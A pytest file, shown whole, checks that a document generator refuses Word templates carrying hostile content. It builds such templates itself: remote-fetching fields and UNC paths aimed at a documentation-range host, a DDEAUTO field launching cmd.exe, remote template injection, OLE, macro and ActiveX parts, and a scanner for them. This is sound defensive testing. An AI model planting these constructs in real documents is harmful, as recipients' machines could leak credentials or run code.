"""Issue #24: a Word blank is copied into every note, so it may hold only what an allow-list names (text, runs,
paragraph and run properties, tables, pictures inside the package, PAGE-like fields); everything Word would
fetch, run or follow when a recipient opens the note is refused as one located line naming the part and the
thing, and nothing of it reaches a generated DOCX.  Each malicious blank is built here as an attacker would.
"""
from __future__ import annotations

import io
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from conftest import NOTES
from test_blank import make_blank, rewrite
from verbale.cli.generate import main

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_TYPE = "http://schemas.microsoft.com/office/"
A_PIC = ('xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
         'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')
SAFE_FIELDS = {"PAGE", "NUMPAGES", "SECTIONPAGES", "SECTION"}
HOST = "203.0.113.7"  # TEST-NET-3: never a real host


# --- what an attacker does to a blank Word made -------------------------------------------------------------

def add_to(part: str, xml: str, closing: str | None = None):
    """Put ``xml`` at the end of the part's root element (``</w:hdr>``, ``</w:ftr>``, ``</w:body>``…)."""
    def change(data: bytes) -> bytes:
        end = (closing or {"header": "</w:hdr>", "footer": "</w:ftr>"}.get(
            re.sub(r"\d.*", "", part.rsplit("/", 1)[-1]), "</w:settings>")).encode()
        head, tail = data.rsplit(end, 1)
        return head + xml.encode("utf-8") + end + tail
    return part, change


def add_relationship(rels: str, rid: str, kind: str, target: str, external: bool = False):
    mode = ' TargetMode="External"' if external else ""
    kind = kind if kind.startswith("http") else TYPE + kind
    line = f'<Relationship Id="{rid}" Type="{kind}" Target="{escape(target)}"{mode}/>'
    return rels, lambda data: (data.replace(b"</Relationships>", line.encode() + b"</Relationships>")
                               if data else f'<Relationships xmlns="{RELS_NS}">{line}</Relationships>'.encode())


def raw_relationship(rels: str, line: str):
    return rels, lambda data: data.replace(b"</Relationships>", line.encode() + b"</Relationships>")


def add_content_type(part: str, kind: str):
    line = f'<Override PartName="/{part}" ContentType="{kind}"/>'
    return "[Content_Types].xml", lambda data: data.replace(b"</Types>", line.encode() + b"</Types>")


def replace_in(part: str, old: str, new: str):
    def change(data: bytes) -> bytes:
        assert old.encode() in data, (part, old)
        return data.replace(old.encode(), new.encode(), 1)
    return part, change


def new_part(name: str, data: bytes):
    return name, lambda _: data


def emf(kind: int, path: str, comment: bytes = b"") -> bytes:
    """An EMF ([MS-EMF] 2.3): its header, one record of ``kind`` (a path in UTF-16, or a comment), its end."""
    import struct

    header = struct.pack("<II", 1, 88) + bytes(32) + b" EMF" + bytes(44)
    body = struct.pack("<I", len(comment)) + comment if comment else struct.pack("<II", 0, 0) + path.encode("utf-16-le")
    body += bytes(-len(body) % 4)
    return header + struct.pack("<II", kind, 8 + len(body)) + body + struct.pack("<IIIII", 14, 20, 0, 16, 20)


def wmf_escape(function: int) -> bytes:
    """A WMF ([MS-WMF] 2.3) whose one record is a printer escape ``function`` (META_ESCAPE), then its end."""
    import struct

    header = struct.pack("<HHHIHIH", 1, 9, 0x300, 0, 0, 0, 0)
    record = struct.pack("<IHHH", 5, 0x0626, function, 0)
    return header + record + struct.pack("<IH", 3, 0)


def escape(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def field_simple(code: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{escape(code)}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'


def field(*pieces: str, dirty: bool = False) -> str:
    """A complex field: begin, its code split over runs, separate, a result, end."""
    return f"<w:p>{field_runs(*pieces, dirty=dirty)}</w:p>"


def field_runs(*pieces: str, dirty: bool = False) -> str:
    begin = '<w:r><w:fldChar w:fldCharType="begin"' + (' w:dirty="true"' if dirty else "") + "/></w:r>"
    code = "".join(f'<w:r><w:instrText xml:space="preserve">{escape(p)}</w:instrText></w:r>' for p in pieces)
    return (begin + code + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def picture(blip: str, extra_doc_pr: str = "") -> str:
    """An inline picture (as Word writes it) whose a:blip is ``blip``."""
    return (f'<w:p><w:r><w:drawing><wp:inline {A_PIC}><wp:extent cx="9525" cy="9525"/>'
            f'<wp:docPr id="7" name="Picture 7">{extra_doc_pr}</wp:docPr><a:graphic><a:graphicData '
            'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
            '<pic:cNvPr id="7" name="x.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>' + blip +
            '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
            '<a:ext cx="9525" cy="9525"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
            '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')


def vml(shape_content: str, shape_attributes: str = "") -> str:
    return (f'<w:p><w:r><w:pict><v:shape id="s1" style="width:10pt;height:10pt"{shape_attributes}>'
            f'{shape_content}</v:shape></w:pict></w:r></w:p>')


HEADER, FOOTER = "word/header1.xml", "word/footer1.xml"
HEADER_RELS, DOCUMENT_RELS = "word/_rels/header1.xml.rels", "word/_rels/document.xml.rels"
SETTINGS, SETTINGS_RELS = "word/settings.xml", "word/_rels/settings.xml.rels"

ATTACKS = {
    # fields, in w:fldSimple and in w:instrText (split over runs, dirty, any case, with switches, nested)
    "includepicture-simple": ([add_to(HEADER, field_simple(f'INCLUDEPICTURE "http://{HOST}/bug.png" \\d'))],
                              HEADER, "field INCLUDEPICTURE"),
    "includetext-split-dirty-unc": ([add_to(HEADER, field(" INCLU", "DETEXT ", f'"\\\\{HOST}\\share\\x.docx" ',
                                                           dirty=True))], HEADER, "field INCLUDETEXT"),
    "includepicture-lower-switches": ([add_to(HEADER, field(f' includePicture "http://{HOST}/x.png" \\* MERGEFORMAT '
                                                             '\\d '))], HEADER, "field INCLUDEPICTURE"),
    "ddeauto": ([add_to(HEADER, field_simple('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))],
                HEADER, "field DDEAUTO"),
    "dde": ([add_to(HEADER, field('DDE c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))], HEADER, "field DDE "),
    "link": ([add_to(HEADER, field(f'LINK Excel.Sheet.12 "\\\\\\\\{HOST}\\\\s\\\\book.xlsx" "Sheet1!R1C1" \\a'))],
             HEADER, "field LINK"),
    "hyperlink-field": ([add_to(HEADER, field_simple(f'HYPERLINK "http://{HOST}/"'))], HEADER, "field HYPERLINK"),
    "import": ([add_to(HEADER, field(f'IMPORT "http://{HOST}/x.wmf"'))], HEADER, "field IMPORT"),
    "macrobutton": ([add_to(HEADER, field("MACROBUTTON Evil Click here"))], HEADER, "field MACROBUTTON"),
    "unknown-field": ([add_to(HEADER, field_simple("FOOBAR 1"))], HEADER, "field FOOBAR"),
    "nested-in-page": ([add_to(HEADER, "<w:p>" + field_runs(" PAGE ") .replace(
        '<w:r><w:fldChar w:fldCharType="separate"/>',
        field_runs(f'INCLUDEPICTURE "http://{HOST}/n.png"') + '<w:r><w:fldChar w:fldCharType="separate"/>', 1)
        + "</w:p>")], HEADER, "field INCLUDEPICTURE"),
    "page-with-a-path": ([add_to(HEADER, field_simple(f'PAGE "\\\\{HOST}\\s\\x"'))], HEADER, "field PAGE"),
    "switch-with-a-path": ([add_to(HEADER, field_simple(f'PAGE \\* "\\\\{HOST}\\s"'))], HEADER, "field PAGE"),
    "quoted-name": ([add_to(HEADER, field(f'"INCLUDEPICTURE" "http://{HOST}/q.png"'))], HEADER,
                    'field "INCLUDEPICTURE"'),
    "no-break-space-first": ([add_to(HEADER, field(f'\u00a0INCLUDEPICTURE "http://{HOST}/s.png"'))], HEADER,
                             "field INCLUDEPICTURE"),
    "xml-base-on-a-field": ([add_to(HEADER, f'<w:p><w:fldSimple w:instr="PAGE" xml:base="http://{HOST}/">'
                                            '<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')], HEADER, "xml:base"),
    "a-header-no-section-names": ([new_part("word/header9.xml", f'<w:hdr xmlns:w="{W_NS}">'.encode()
                                            + field_simple(f'INCLUDEPICTURE "http://{HOST}/h.png"').encode()
                                            + b"</w:hdr>"),
                                   add_content_type("word/header9.xml", "application/vnd.openxmlformats-"
                                                    "officedocument.wordprocessingml.header+xml")],
                                  "word/header9.xml", "field INCLUDEPICTURE"),
    "a-field-across-alternate-content": ([add_to(HEADER, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
                                                         '<mc:AlternateContent><mc:Choice Requires="wps"><w:instrText>'
                                                         'PAGE </w:instrText></mc:Choice><mc:Fallback><w:instrText>'
                                                         'INCLUDEPICTURE x.png</w:instrText></mc:Fallback>'
                                                         '</mc:AlternateContent></w:r><w:r><w:fldChar '
                                                         'w:fldCharType="end"/></w:r></w:p>')],
                                          HEADER, "field INCLUDEPICTURE"),
    "in-the-footer": ([add_to(FOOTER, field_simple(f'INCLUDEPICTURE "http://{HOST}/f.png"'))], FOOTER,
                      "field INCLUDEPICTURE"),
    "in-the-body": ([add_to("word/document.xml", field_simple(f'INCLUDEPICTURE "http://{HOST}/b.png"'),
                            "<w:sectPr")], "word/document.xml", "field INCLUDEPICTURE"),
    "in-a-table-cell": ([add_to(HEADER, "<w:tbl><w:tr><w:tc>" + field_simple(f'INCLUDETEXT "http://{HOST}/t"')
                                + "</w:tc></w:tr></w:tbl>")], HEADER, "field INCLUDETEXT"),
    # relationships to outside: hyperlinks, linked pictures, templates, frames, data sources, subdocuments
    "hyperlink-outside": ([add_to(HEADER, '<w:p><w:hyperlink r:id="rId90"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
                                          '</w:p>'), add_relationship(HEADER_RELS, "rId90", "hyperlink",
                                                                      f"http://{HOST}/", external=True)],
                          HEADER_RELS, "links to an outside file"),
    "linked-picture": ([replace_in(HEADER, 'r:embed="rId1"', 'r:link="rId91"'),
                        add_relationship(HEADER_RELS, "rId91", "image", f"\\\\{HOST}\\share\\e.png", external=True)],
                       HEADER_RELS, "links to an outside file"),
    "linked-picture-lowercase-mode": ([raw_relationship(HEADER_RELS, f'<Relationship Id="rId92" Type="{TYPE}image" '
                                                        f'Target="http://{HOST}/e.png" TargetMode="external"/>')],
                                      HEADER_RELS, "links to an outside file"),
    "a-url-as-internal-target": ([add_relationship(HEADER_RELS, "rId93", "image", f"http://{HOST}/e.png")],
                                 HEADER_RELS, "links to an outside file"),
    "r-link-on-a-blip": ([replace_in(HEADER, 'r:embed="rId1"', 'r:embed="rId1" r:link="rId1"')], HEADER, "r:link"),
    "picture-click-link": ([add_to(HEADER, picture('<a:blip r:embed="rId1"/>',
                                                   '<a:hlinkClick r:id="rId94"/>')),
                            add_relationship(HEADER_RELS, "rId94", "hyperlink", f"http://{HOST}/", external=True)],
                           HEADER_RELS, "links to an outside file"),
    "subdocument": ([add_to(HEADER, '<w:p><w:subDoc r:id="rId95"/></w:p>'),
                     add_relationship(HEADER_RELS, "rId95", "subDocument", f"\\\\{HOST}\\s\\sub.docx", external=True)],
                    HEADER_RELS, "subDocument"),
    "attached-template": ([add_to(SETTINGS, '<w:attachedTemplate r:id="rId96"/>'),
                           add_relationship(SETTINGS_RELS, "rId96", "attachedTemplate",
                                            f"file://{HOST}/share/evil.dotm", external=True)],
                          SETTINGS_RELS, "attachedTemplate"),
    "attached-template-element": ([add_to(SETTINGS, '<w:attachedTemplate r:id="rId97"/>')], SETTINGS, "template"),
    "mail-merge": ([add_to(SETTINGS, '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
                                     '<w:dataType w:val="native"/><w:connectString w:val="Provider=x"/>'
                                     '<w:query w:val="SELECT * FROM x"/></w:mailMerge>')], SETTINGS, "mail merge"),
    "mail-merge-source": ([add_relationship(SETTINGS_RELS, "rId98", "mailMergeSource", f"\\\\{HOST}\\s\\x.xlsx",
                                            external=True)], SETTINGS_RELS, "mailMergeSource"),
    "frame": ([add_relationship("word/_rels/webSettings.xml.rels", "rId1", "frame", f"http://{HOST}/f.html",
                                external=True)], "word/_rels/webSettings.xml.rels", "links to an outside file"),
    # what runs: OLE, ActiveX, macros, add-ins, imported files, embedded fonts
    "ole-object": ([add_to(HEADER, '<w:p><w:r><w:object w:dxaOrig="1" w:dyaOrig="1"><v:shape id="o1" '
                                   'style="width:1pt;height:1pt" o:ole=""><v:imagedata r:id="rId1" o:title=""/>'
                                   '</v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="o1" '
                                   'DrawAspect="Icon" ObjectID="_1" r:id="rId1"/></w:object></w:r></w:p>')],
                   HEADER, "an embedded OLE object"),
    "ole-part": ([add_relationship(DOCUMENT_RELS, "rId80", "oleObject", "embeddings/oleObject1.bin"),
                  new_part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 ole")],
                 "word/embeddings/oleObject1.bin", "an embedded object"),
    "activex": ([add_to(HEADER, '<w:p><w:r><w:pict><w:control r:id="rId1" w:name="X" w:shapeid="s1"/></w:pict>'
                                '</w:r></w:p>')], HEADER, "ActiveX"),
    "activex-part": ([add_relationship(DOCUMENT_RELS, "rId81", "control", "activeX/activeX1.xml"),
                      new_part("word/activeX/activeX1.xml", b"<ax/>")], "word/activeX/activeX1.xml",
                     "ActiveX"),
    "macros": ([add_relationship(DOCUMENT_RELS, "rId82", MS_TYPE + "2006/relationships/vbaProject", "vbaProject.bin"),
                new_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 vba"),
                add_content_type("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")],
               "word/vbaProject.bin", "macros"),
    "macro-enabled-main": ([replace_in("[Content_Types].xml",
                                       "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                       "application/vnd.ms-word.document.macroEnabled.main+xml")],
                           "word/document.xml", "macros"),
    "web-add-in": ([add_relationship("_rels/.rels", "rId70", MS_TYPE + "2011/relationships/webextensiontaskpanes",
                                     "word/webextensions/taskpanes.xml")], "_rels/.rels", "web add-in"),
    "custom-ribbon": ([add_relationship("_rels/.rels", "rId71", MS_TYPE + "2007/relationships/ui/extensibility",
                                        "customUI/customUI14.xml")], "_rels/.rels", "ribbon"),
    "alt-chunk": ([add_to(HEADER, '<w:altChunk r:id="rId99"/>'),
                   add_relationship(HEADER_RELS, "rId99", "aFChunk", "afchunk.mht"),
                   new_part("word/afchunk.mht", b"MIME-Version: 1.0\r\n\r\n<img src=x>")], HEADER_RELS, "aFChunk"),
    "alt-chunk-element": ([add_to(HEADER, '<w:altChunk r:id="rId1"/>')], HEADER, "altChunk"),
    "embedded-font": ([add_to("word/fontTable.xml", '<w:font w:name="Evil"><w:embedRegular r:id="rId1" '
                              'w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>', "</w:fonts>"),
                       add_relationship("word/_rels/fontTable.xml.rels", "rId1", "font", "fonts/font1.odttf"),
                       new_part("word/fonts/font1.odttf", b"\0" * 64)], "word/_rels/fontTable.xml.rels", "font"),
    # markup Word reads that is no letterhead: custom XML, data binding, VML or DrawingML pointing outside
    "custom-xml": ([add_to(HEADER, '<w:customXml w:uri="urn:x" w:element="e"><w:p><w:r><w:t>x</w:t></w:r></w:p>'
                                   '</w:customXml>')], HEADER, "custom XML"),
    "data-binding": ([add_to(HEADER, '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/>'
                                     '</w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>')], HEADER, "bound to data"),
    "vml-imagedata-unc": ([add_to(HEADER, vml(f'<v:imagedata src="\\\\{HOST}\\share\\x.png" o:title=""/>'))],
                          HEADER, "src"),
    "vml-imagedata-href": ([add_to(HEADER, vml(f'<v:imagedata r:id="rId1" o:href="http://{HOST}/x.png"/>'))],
                           HEADER, "href"),
    "vml-fill": ([add_to(HEADER, vml(f'<v:fill type="frame" src="http://{HOST}/x.png"/>'))], HEADER, "src"),
    "vml-shape-href": ([add_to(HEADER, vml("", f' href="http://{HOST}/"'))], HEADER, "href"),
    "fallback-points-outside": ([add_to(HEADER, '<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps">'
                                                '<w:t>x</w:t></mc:Choice><mc:Fallback><w:pict><v:shape id="s2">'
                                                f'<v:imagedata src="http://{HOST}/fb.png"/></v:shape></w:pict>'
                                                '</mc:Fallback></mc:AlternateContent></w:r></w:p>')], HEADER, "src"),
    "svg-picture": ([replace_in(HEADER, '<a:blip r:embed="rId1"/>',
                                '<a:blip r:embed="rId1"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">'
                                '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" '
                                'r:embed="rId1"/></a:ext></a:extLst></a:blip>')], HEADER, "svgBlip"),
    "not-a-picture": ([new_part("word/media/image1.png", b"<html><img src='http://203.0.113.7/'></html>")],
                      "word/media/image1.png", "a format verbale does not carry"),
    "unknown-namespace": ([add_to(HEADER, '<w:p><x:evil xmlns:x="urn:evil"/></w:p>')], HEADER, "urn:evil"),
    "processing-instruction": ([add_to(HEADER, f'<?xml-stylesheet href="http://{HOST}/s.xsl"?>')], HEADER,
                               "processing instruction"),
    "must-understand": ([replace_in(HEADER, 'mc:Ignorable="w14 wp14"', 'mc:Ignorable="w14 wp14" '
                                    'mc:MustUnderstand="w14"')], HEADER, "mc:MustUnderstand"),
    "tracked-change": ([add_to(HEADER, '<w:p><w:ins w:id="1" w:author="x"><w:r><w:t>x</w:t></w:r></w:ins></w:p>')],
                       HEADER, "tracked change"),
    "a-font-that-is-a-path": ([replace_in("word/styles.xml", '<w:style w:type="paragraph" w:default="1" '
                                          'w:styleId="Normal">', '<w:style w:type="paragraph" w:default="1" '
                                          'w:styleId="Normal"><w:rPr><w:rFonts w:ascii="\\\\203.0.113.7\\f"/>'
                                          '</w:rPr>')], "word/styles.xml", "font"),
    # found again (turn 3): a field code without its namespace, an address without its scheme, a part Word finds in
    # any case, a metafile picture naming a colour profile on a share
    "field-code-without-namespace": ([add_to(HEADER, f'<w:p><w:fldSimple instr="INCLUDEPICTURE &quot;http://{HOST}/'
                                             'n.png&quot;"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')],
                                     HEADER, "field INCLUDEPICTURE"),
    "protocol-relative-address": ([add_to(HEADER, vml(f'<v:imagedata r:id="rId1" o:title="//{HOST}/share/x.png"/>'))],
                                  HEADER, "names a place outside the file"),
    "two-parts-one-name": ([new_part("word/HEADER1.xml", f'<w:hdr xmlns:w="{W_NS}"/>'.encode())], "word/HEADER1.xml",
                           "two parts named"),
    "emf-colour-profile-on-a-share": ([new_part("word/media/image1.png", emf(113, f"\\\\{HOST}\\c.icm"))],
                                      "word/media/image1.png", "colour profile file (EMR_SETICMPROFILEW)"),
    "emf-print-spool-comment": ([new_part("word/media/image1.png", emf(70, "", comment=b"SPOL" + bytes(12)))],
                                "word/media/image1.png", "print spool"),
    "wmf-printer-escape": ([new_part("word/media/image1.png", wmf_escape(0x0001))], "word/media/image1.png",
                           "printer escape"),
    "a-huge-page": ([replace_in("word/document.xml", 'w:w="11906"', 'w:w="999999999999"')], "word/document.xml",
                    "page"),
}


def malicious_blank(path: Path, changes) -> Path:
    make_blank(path)
    for part, change in changes:
        with zipfile.ZipFile(path) as package:
            present = part in package.namelist()
        if present:
            rewrite(path, part, change)
        else:
            with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
                package.writestr(part, change(b""))
    return path


def office(tmp_path: Path, blank_changes=()) -> Path:
    """A workspace whose verbale.yaml names its blank, with one spec."""
    root = tmp_path / "office"
    (root / "notes").mkdir(parents=True)
    malicious_blank(root / "blank.docx", blank_changes)
    (root / "verbale.yaml").write_text("house: {blank: blank.docx}\n", encoding="utf-8")
    shutil.copy(NOTES / "17-1-624.yaml", root / "notes" / "note.yaml")
    return root


# --- what reaches a generated DOCX: nothing that fetches, runs or links ------------------------------------

def fetching_parts(docx: bytes) -> list[str]:
    """Everything in a DOCX that Word would fetch, run or follow: external relationships, relationship types
    other than the writer's own, field codes beyond PAGE-like ones, objects, controls, linked pictures, VML
    sources, macros.  Empty for a safe note."""
    found = []
    with zipfile.ZipFile(io.BytesIO(docx)) as package:
        for name in package.namelist():
            data = package.read(name)
            if re.search(r"(?i)vba|activex|embeddings/|\.bin$|\.odttf$", name):
                found.append(f"{name}: a program or object part")
            if not name.endswith((".xml", ".rels")):
                continue
            root = etree.fromstring(data)
            for relationship in root.iter(f"{{{RELS_NS}}}Relationship"):
                kind = relationship.get("Type").rsplit("/", 1)[-1]
                if relationship.get("TargetMode") or "//" in relationship.get("Target") or kind not in {
                        "officeDocument", "core-properties", "extended-properties", "styles", "settings",
                        "fontTable", "header", "footer", "image"}:
                    found.append(f"{name}: relationship {kind} -> {relationship.get('Target')}")
            codes = [e.get(f"{{{W_NS}}}instr") or e.get("instr") or "" for e in root.iter(f"{{{W_NS}}}fldSimple")]
            codes += ["".join(e.text or "" for e in root.iter(f"{{{W_NS}}}instrText", f"{{{W_NS}}}delInstrText"))
                      ] if root.find(f".//{{{W_NS}}}instrText") is not None else []
            for code in codes:
                words = re.findall(r"[A-Za-z]+", code)
                if not set(map(str.upper, words)) <= SAFE_FIELDS | {"MERGEFORMAT", "ARABIC", "ROMAN"}:
                    found.append(f"{name}: field {code.strip()}")
            for element in root.iter():
                if not isinstance(element.tag, str):
                    found.append(f"{name}: {element!r}")
                    continue
                local = etree.QName(element).localname
                if local in {"object", "control", "altChunk", "subDoc", "customXml", "OLEObject", "dataBinding",
                             "attachedTemplate", "mailMerge", "svgBlip", "embedRegular"}:
                    found.append(f"{name}: element {local}")
                for attribute, value in element.attrib.items():
                    local_attribute = etree.QName(attribute).localname
                    if local_attribute in {"src", "href", "link"} or (
                            re.search(r"://|\\\\", value) and local_attribute not in ("uri", "Type")):
                        found.append(f"{name}: {local} {local_attribute}={value}")
    return found


def assert_fetches_nothing(folder: Path) -> int:
    """Every DOCX in ``folder`` is safe to open; returns how many there are."""
    files = sorted(folder.glob("*.docx"))
    for path in files:
        assert fetching_parts(path.read_bytes()) == [], path.name
    return len(files)


def test_the_scan_finds_what_it_looks_for(tmp_path):
    """The output check itself: a DOCX with a field, a link and an object in its header is caught."""
    blank = malicious_blank(tmp_path / "evil.docx", ATTACKS["includepicture-simple"][0]
                            + ATTACKS["hyperlink-outside"][0] + ATTACKS["ole-object"][0])
    found = "\n".join(fetching_parts(blank.read_bytes()))
    assert "field INCLUDEPICTURE" in found and "relationship hyperlink" in found and "element object" in found


# --- refused, one line, nothing written -------------------------------------------------------------------

@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_blank_holding_what_word_would_fetch_or_run_is_refused(tmp_path, capsys, attack):
    changes, part, named = ATTACKS[attack]
    root = office(tmp_path, changes)
    capsys.readouterr()
    assert main([str(root / "notes"), "-o", str(tmp_path / "out")]) == 1
    said = capsys.readouterr()
    lines = said.err.splitlines()
    assert len(lines) == 1, lines
    line = lines[0]
    assert line.startswith(f"{root / 'verbale.yaml'}:1: house.blank: the blank blank.docx "), line
    assert f"its part {part}" in line and named.lower() in line.lower(), line
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
    assert said.out.startswith("0 notes, 0 files written, 1 failed")


def test_fields_word_fills_in_without_fetching_are_carried(tmp_path, capsys):
    """PAGE, NUMPAGES, SECTIONPAGES and SECTION (dirty, any case, with format switches, in Word's page-number
    content control) stay; their codes are the only ones in the notes."""
    page_numbers = ('<w:sdt><w:sdtPr><w:id w:val="-170"/><w:docPartObj><w:docPartGallery w:val="Page Numbers '
                    '(Bottom of Page)"/><w:docPartUnique/></w:docPartObj></w:sdtPr><w:sdtEndPr/><w:sdtContent>'
                    '<w:p><w:pPr><w:pStyle w:val="Footer"/><w:jc w:val="center"/></w:pPr>'
                    + field_runs(" PAGE ", "  \\* MERGEFORMAT ", dirty=True) + "<w:r><w:t xml:space=\"preserve\">"
                    " / </w:t></w:r>" + field_runs(" numPages \\* Arabic ") + "</w:p></w:sdtContent></w:sdt>")
    root = office(tmp_path, [add_to(FOOTER, page_numbers),
                             add_to(HEADER, field_simple("SECTIONPAGES") + field_simple(" SECTION \\* roman "))])
    assert main([str(root / "notes"), "-o", str(tmp_path / "out")]) == 0, capsys.readouterr().err
    with zipfile.ZipFile(tmp_path / "out" / "note.en.docx") as package:
        footer, header = package.read("word/footer1.xml"), package.read("word/header2.xml")
    assert b" numPages \\* Arabic " in footer and b"MERGEFORMAT" in footer and b"Page Numbers" in footer
    assert b'w:instr="SECTIONPAGES"' in header
    assert assert_fetches_nothing(tmp_path / "out") == 5


def test_a_letterhead_as_word_makes_it_is_carried(tmp_path, capsys):
    """What Word 2016 writes for a letterhead passes: an anchored picture with Word's extensions, a line drawn
    as a shape with its VML fallback, a table, borders, an internal link, paragraph ids."""
    anchored = picture('<a:blip r:embed="rId1"><a:extLst><a:ext uri="{28A0092B-C50C-407E-A947-70E740481C1C}">'
                       '<a14:useLocalDpi xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main" val="0"/>'
                       '</a:ext></a:extLst></a:blip>',
                       '<a:extLst><a:ext uri="{FF2B5EF4-FFF2-40B4-BE49-F238E27FC236}"><a16:creationId '
                       'xmlns:a16="http://schemas.microsoft.com/office/drawing/2014/main" id="{1}"/></a:ext></a:extLst>')
    line = ('<w:p w14:paraId="1A2B3C4D" w14:textId="77777777" w:rsidR="00A1"><w:r><w:rPr><w:noProof/></w:rPr>'
            '<mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:anchor distT="0" distB="0" distL="0" '
            'distR="0" simplePos="0" relativeHeight="1" behindDoc="0" locked="0" layoutInCell="1" allowOverlap="1" '
            f'wp14:anchorId="1" wp14:editId="2" {A_PIC}><wp:simplePos x="0" y="0"/><wp:positionH relativeFrom="column">'
            '<wp:posOffset>0</wp:posOffset></wp:positionH><wp:positionV relativeFrom="paragraph"><wp:posOffset>0'
            '</wp:posOffset></wp:positionV><wp:extent cx="5760000" cy="0"/><wp:effectExtent l="0" t="0" r="0" b="0"/>'
            '<wp:wrapNone/><wp:docPr id="3" name="Straight Connector 3"/><wp:cNvGraphicFramePr/><a:graphic>'
            '<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp>'
            '<wps:cNvCnPr/><wps:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="5760000" cy="0"/></a:xfrm>'
            '<a:prstGeom prst="line"><a:avLst/></a:prstGeom><a:ln w="12700"><a:solidFill><a:srgbClr val="1F3864"/>'
            '</a:solidFill></a:ln></wps:spPr><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:anchor>'
            '</w:drawing></mc:Choice><mc:Fallback><w:pict><v:line id="c3" o:spid="_x0000_s1026" '
            'style="position:absolute;z-index:1" from="0,0" to="453.55pt,0" strokecolor="#1f3864" strokeweight="1pt">'
            '<v:stroke joinstyle="miter"/><w10:wrap/></v:line></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>')
    table = ('<w:tbl><w:tblPr><w:tblW w:w="0" w:type="auto"/><w:tblBorders><w:bottom w:val="single" w:sz="8" '
             'w:space="0" w:color="auto"/></w:tblBorders><w:tblLook w:val="04A0"/></w:tblPr><w:tblGrid>'
             '<w:gridCol w:w="4500"/></w:tblGrid><w:tr><w:tc><w:tcPr><w:tcW w:w="4500" w:type="dxa"/></w:tcPr>'
             '<w:p><w:pPr><w:pBdr><w:bottom w:val="single" w:sz="6" w:space="1" w:color="auto"/></w:pBdr></w:pPr>'
             '<w:bookmarkStart w:id="0" w:name="top"/><w:hyperlink w:anchor="top"><w:r><w:t>Tel. +7 7172 00 00 00'
             '</w:t></w:r></w:hyperlink><w:bookmarkEnd w:id="0"/></w:p></w:tc></w:tr></w:tbl>')
    root = office(tmp_path, [add_to(HEADER, anchored + line + table)])
    assert main([str(root / "notes"), "-o", str(tmp_path / "out")]) == 0, capsys.readouterr().err
    with zipfile.ZipFile(tmp_path / "out" / "note.en.docx") as package:
        header = package.read("word/header2.xml")
    assert b"Straight Connector 3" in header and b"Tel. +7 7172" in header and b"useLocalDpi" in header
    assert assert_fetches_nothing(tmp_path / "out") == 5


def test_a_refused_blank_costs_only_its_own_notes(tmp_path, capsys):
    """One spec names a malicious blank, the others the workspace's good one: they are written, and nothing of
    the malicious blank reaches any file."""
    root = office(tmp_path)
    malicious_blank(root / "evil.docx", ATTACKS["includetext-split-dirty-unc"][0] + ATTACKS["ole-object"][0])
    shutil.copy(NOTES / "osce-brussels-2006.yaml", root / "notes" / "other.yaml")
    evil = root / "notes" / "evil.yaml"
    evil.write_text((NOTES / "17-1-624.yaml").read_text(encoding="utf-8") + "house:\n  blank: evil.docx\n",
                    encoding="utf-8")
    capsys.readouterr()
    assert main([str(root / "notes"), "-o", str(tmp_path / "out"), "--jobs", "1"]) == 1
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"{evil}:{len(evil.read_text().splitlines())}: house.blank: "
                                                   "the blank evil.docx ")
    assert not list((tmp_path / "out").glob("evil*"))
    assert assert_fetches_nothing(tmp_path / "out") == 8
